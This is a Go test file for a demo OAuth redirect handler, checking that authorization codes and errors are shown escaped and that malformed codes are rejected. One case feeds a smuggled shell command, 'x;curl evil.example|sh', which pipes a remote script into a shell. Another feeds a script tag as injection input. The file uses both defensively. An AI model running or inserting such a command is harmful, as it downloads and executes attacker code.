package main

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// The demo web client's redirect URI shows the code and the command that
// redeems it, or the error sent back, escaped; the example app answers the
// rest.
func TestDevCallback(t *testing.T) {
	app := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "the app") })
	srv := httptest.NewServer(withDevCallback(app))
	defer srv.Close()
	tests := []struct {
		name       string
		path       string
		wantStatus int
		want       []string
		notWant    []string
	}{
		{"a code", "/callback?code=abc-123&state=xyz", 200,
			[]string{`<pre id="next">CODE=abc-123` + "\n" + devRedeemCmd + "</pre>", "60 seconds", "state <code>xyz</code>"}, nil},
		{"an error", "/callback?error=access_denied&error_description=the+user+said+no&state=xyz", 400,
			[]string{"did not complete: <code>access_denied</code>: the user said no"}, []string{`id="next"`}},
		{"nothing", "/callback", 400, []string{"this request carries none"}, []string{`id="next"`}},
		{"markup in the code", "/callback?code=%3Cscript%3E", 400, []string{"this request carries none"}, []string{"<script>", "script&gt;", `id="next"`}},
		{"shell syntax in the code", "/callback?code=x;curl+evil.example|sh", 400, []string{"this request carries none"}, []string{"evil", `id="next"`}},
		{"the app beside it", "/", 200, []string{"the app"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, err := http.Get(srv.URL + tt.path)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != tt.wantStatus {
				t.Errorf("status %d, want %d", resp.StatusCode, tt.wantStatus)
			}
			for _, w := range tt.want {
				if !strings.Contains(string(body), w) {
					t.Errorf("the page does not say %q:\n%s", w, body)
				}
			}
			for _, w := range tt.notWant {
				if strings.Contains(string(body), w) {
					t.Errorf("the page says %q:\n%s", w, body)
				}
			}
		})
	}
}
